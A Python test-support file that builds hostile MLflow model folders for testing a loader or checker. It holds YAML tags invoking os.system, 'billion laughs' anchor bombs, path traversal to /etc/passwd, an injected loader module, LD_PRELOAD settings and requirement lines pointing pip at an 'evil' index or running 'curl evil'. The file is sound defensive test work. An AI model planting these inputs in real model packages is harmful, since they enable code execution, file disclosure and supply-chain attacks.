"""`MLmodel`, requirement lines and examples that name, load or explode what they must not."""

from __future__ import annotations

import json
from collections.abc import Callable
from typing import Any

import yaml

from tests.support.hostile.kit import Effect, Hostile, Kind, Site, edit

Document = dict[str, Any]


def _row(
    name: str, build: Callable[[Site], object], effect: Effect = Effect.UNTRIED,
    kind: Kind = Kind.MLMODEL,
) -> Hostile:  # fmt: skip
    return Hostile(name, kind, build, effect=effect)


def _function(**values: object) -> Callable[[Site], object]:
    return lambda site: edit(site, lambda d: d["flavors"]["python_function"].update(values))


def _sklearn(**values: object) -> Callable[[Site], object]:
    return lambda site: edit(site, lambda d: d["flavors"]["sklearn"].update(values))


def _top(**values: object) -> Callable[[Site], object]:
    return lambda site: edit(site, lambda d: d.update(values))


def _lines(text: str) -> Callable[[Site], object]:
    """Append lines to an honest `MLmodel`."""

    def build(site: Site) -> None:
        with (site.folder / "MLmodel").open("a") as file:
            file.write(text)

    return build


def _whole(data: bytes | str, name: str = "MLmodel") -> Callable[[Site], object]:
    content = data.encode() if isinstance(data, str) else data
    return lambda site: (site.folder / name).write_bytes(content)


def _laughs(levels: int = 9) -> str:
    """Return anchors whose last one, written out, has 10 ** levels words."""
    lines = ["a0: &a0 [ha, ha, ha, ha, ha, ha, ha, ha, ha, ha]"]
    for n in range(1, levels):
        lines.append(f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]")
    return "\n".join(lines)


def _merged(levels: int = 9) -> str:
    """Return mappings that merge the one before ten times, which the reader writes out."""
    lines = ["m0: &m0 {k: v}"]
    for n in range(1, levels):
        lines.append(f"m{n}: &m{n} {{<<: [{', '.join([f'*m{n - 1}'] * 10)}]}}")
    return "\n".join(lines) + "\n"


def _laughing(key: str) -> Callable[[Site], object]:
    """Put a bomb where a checker shows the value that it found."""

    def build(site: Site) -> None:
        path = site.folder / "MLmodel"
        document = yaml.safe_load(path.read_text())
        document["flavors"]["python_function"][key] = "BOMB"
        path.write_text(_laughs() + "\n" + yaml.safe_dump(document).replace("BOMB", "*a8"))

    return build


def _own_loader(site: Site) -> None:
    """Bring a module along and have it load the model."""
    (site.folder / "code").mkdir()
    (site.folder / "code" / "hostile_loader.py").write_text(
        f"import os\ndef _load_pyfunc(path, **_):\n    os.mkdir({str(site.marker)!r})\n"
    )
    _function(loader_module="hostile_loader", code="code")(site)


def _outside(site: Site) -> None:
    """Move the model out of the folder and name it by its absolute path."""
    elsewhere = site.secret.with_name("elsewhere.skops")
    (site.folder / "model.skops").rename(elsewhere)
    _sklearn(pickled_model=str(elsewhere))(site)
    _function(model_path=str(elsewhere))(site)


def _nested_example(name: str) -> Callable[[Site], object]:
    return _whole('{"columns":["a"],"data":' + "[" * 10_000 + "]" * 10_000 + "}", name)


def _signature(inputs: object) -> Callable[[Site], object]:
    return _top(signature={"inputs": inputs, "outputs": None, "params": None})


def _needs(*lines: str) -> Hostile:
    text = "\n".join(["mlflow==3.17.2", *lines]) + "\n"
    return _row(repr(text[15:-1]), _whole(text, "requirements.txt"), kind=Kind.REQUIREMENTS)


def _conda(name: str, **document: object) -> Hostile:
    base: Document = {"channels": ["conda-forge"], "dependencies": ["python=3.11.2"]}
    text = json.dumps({**base, **document})
    return _row(f"conda: {name}", _whole(text, "conda.yaml"), kind=Kind.REQUIREMENTS)


def _environment(name: str, **document: object) -> Hostile:
    base: Document = {"python": "3.11.2", "build_dependencies": [], "dependencies": []}
    text = json.dumps({**base, **document})
    return _row(f"python_env: {name}", _whole(text, "python_env.yaml"), kind=Kind.REQUIREMENTS)


DOCUMENTS: tuple[Hostile, ...] = (
    _row("a loader of its own", _own_loader, Effect.MARKER),
    _row("another loader of MLflow's", _function(loader_module="mlflow.pyfunc.model")),
    _row("a loader that is a list", _function(loader_module=["mlflow.sklearn"])),
    _row("predict_fn __reduce__", _function(predict_fn="__reduce__")),
    _row("predict_fn set_params", _function(predict_fn="set_params")),
    _row("predict_fn that is a mapping", _function(predict_fn={"a": 1})),
    _row("code paths", _function(code="code")),
    _row("data", _function(data="../../secrets")),
    _row("a configuration", _function(config={"model_config": "x"})),
    _row("an environment that is a file elsewhere",
         _function(env={"conda": "../../conda.yaml", "virtualenv": "/etc/passwd"})),
    _row("an environment of another kind", _function(env={"docker": "evil:latest"})),
    _row("a Python version with an option", _function(python_version="3.11 --index-url http://e")),
    _row("an absolute path of the model", _outside),
    _row("a path that climbs", _sklearn(pickled_model="../../../etc/passwd")),
    _row("a path with a link's way round", _function(model_path="code/../model.skops")),
    _row("a model_path that is another", _function(model_path="README.md")),
    _row("a format that the file has not", _sklearn(serialization_format="pickle")),
    _row("a format that is a list", _sklearn(serialization_format=["skops"])),
    _row("trusted types that are no list", _sklearn(skops_trusted_types=True)),
    _row("code of scikit-learn's flavor", _sklearn(code="code")),
    _row("a flavor with code", lambda s: edit(s, lambda d: d["flavors"].update(pytorch={}))),
    _row("a flavor of its own", lambda s: edit(s, lambda d: d["flavors"].update(evil={"x": 1}))),
    _row("no function's flavor", lambda s: edit(s, lambda d: d["flavors"].pop("python_function"))),
    _row("flavors that are a list", _top(flavors=[])),
    _row("a model from code", _top(model_code_path="model.py")),
    _row("an example elsewhere",
         _top(saved_input_example_info={"artifact_path": "../../etc/passwd", "type": "dataframe"})),
    _row("a signature ten thousand levels deep", _signature("[" * 10_000 + "]" * 10_000)),
    _row("a signature that is no JSON", _signature("[{")),
    _row("the same key twice", _lines("flavors:\n  python_function: {}\n")),
    _row("the same key twice in a flavor", lambda s: (s.folder / "MLmodel").write_text(
        (s.folder / "MLmodel").read_text().replace(
            "    loader_module: mlflow.sklearn\n",
            "    loader_module: evil\n    loader_module: mlflow.sklearn\n"))),
    _row("two documents", _lines("---\nflavors: {}\n")),
    _row("a tag that calls", _lines("extra: !!python/object/apply:os.getpid []\n")),
    _row("a tag that names", _lines("extra: !!python/name:os.system ''\n")),
    _row("a tag of its own", _lines("extra: !shell id\n")),
    _row("brackets ten thousand deep", _lines("extra: " + "[" * 10_000 + "]" * 10_000 + "\n")),
    _row("dashes ten thousand deep", _lines("extra:\n  " + "- " * 10_000 + "x\n")),
    _row("brackets that never close", _whole("[" * 1_000_000)),
    _row("anchors that multiply, where predict_fn stands", _laughing("predict_fn")),
    _row("anchors that multiply, where model_path stands", _laughing("model_path")),
    _row("anchors that multiply, where env stands", _laughing("env")),
    _row("an anchor that holds itself", _lines("extra: &x [*x]\n")),
    _row("merges that multiply", _lines(_merged())),
    _row("a scalar of four megabytes", _lines("extra: " + "x" * 4_000_000 + "\n")),
    _row("a number of a hundred thousand digits", _lines("extra: " + "9" * 100_000 + "\n")),
    _row("a number in sixties without end", _lines("extra: " + "1:" * 200_000 + "1\n")),
    _row("a fraction in sixties without end", _lines("extra: " + "1:" * 100_000 + "1.5\n")),
    _row("a million small keys", _lines("".join(f"k{n}: 1\n" for n in range(400_000)))),
    _row("no text", _whole(b"\xff\xfe\x00flavors")),
    _row("UTF-16", lambda s: (s.folder / "MLmodel").write_bytes(
        (s.folder / "MLmodel").read_text().encode("utf-16"))),
    _row("nothing", _whole("")),
    _row("a list", _whole("- flavors\n")),
    _row("control characters", _lines("extra: a\x00b\n")),
    _row("an example ten thousand levels deep", _nested_example("input_example.json")),
    _row("a serving example ten thousand levels deep",
         _nested_example("serving_input_example.json")),
    _row("an environment of anchors", _whole(_laughs() + "\ndependencies: *a8\n", "conda.yaml"),
         kind=Kind.REQUIREMENTS),
    _row("an environment of brackets", _whole("[" * 10_000, "python_env.yaml"),
         kind=Kind.REQUIREMENTS),
    _row("an environment of four megabytes",
         _whole("".join(f"k{n}: 1\n" for n in range(400_000)), "conda.yaml"),
         kind=Kind.REQUIREMENTS),
    _needs("--index-url http://evil"),
    _needs("--extra-index-url=http://evil"),
    _needs("-r /etc/passwd"),
    _needs("-c ../constraints.txt"),
    _needs("-e ."),
    _needs("--trusted-host evil"),
    _needs("./local"),
    _needs("evil-1.0-py3-none-any.whl"),
    _needs("evil @ file:///tmp/evil"),
    _needs("git+https://evil/x"),
    _needs("https://evil/x.whl"),
    _needs("numpy \\", "--index-url http://evil"),
    _needs("numpy --config-settings=x=y"),
    _needs("${HOME}"),
    _needs("numpy==1.0\x00"),
    _conda("variables", variables={"LD_PRELOAD": "/tmp/evil.so"}),
    _conda("a prefix", prefix="/etc"),
    _conda("a channel elsewhere", channels=["http://evil"]),
    _conda("channels that are a mapping", channels={"http://evil": 1}),
    _conda("a channel's file", channels=["file:///tmp/channel"]),
    _conda("a dependency by channel", dependencies=["evil::numpy"]),
    _conda("a dependency by URL", dependencies=["https://evil/x.tar.bz2"]),
    _conda("a pip option", dependencies=[{"pip": ["--index-url http://evil", "numpy"]}]),
    _conda("a pip file", dependencies=[{"pip": ["-r ../requirements.txt"]}]),
    _conda("another installer", dependencies=[{"npm": ["evil"]}]),
    _environment("a Python with an option", python="3.11.2 --mirror http://evil"),
    _environment("a key of its own", post_install="curl evil"),
    _environment("another requirements file", dependencies=["-r /etc/passwd"]),
    _environment("a build dependency by URL", build_dependencies=["pip @ https://evil/pip.whl"]),
)  # fmt: skip
